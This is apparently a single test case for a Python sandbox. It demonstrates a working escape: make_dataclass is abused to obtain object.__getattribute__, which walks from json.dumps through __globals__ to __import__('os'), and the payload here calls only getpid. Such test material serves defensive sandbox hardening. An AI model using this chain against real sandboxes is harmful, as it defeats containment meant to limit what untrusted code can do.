# technique: make_dataclass with a list field spec skipped the wrapper's check: the default became object.__getattribute__
# expect: any
import dataclasses, json
X = dataclasses.make_dataclass("X", [["__getattribute__", int]])
ga = dataclasses.fields(X)[0].default
g = ga(json.dumps, "__globals__")
(repr(ga), g["__builtins__"]["__import__"]("os").getpid())
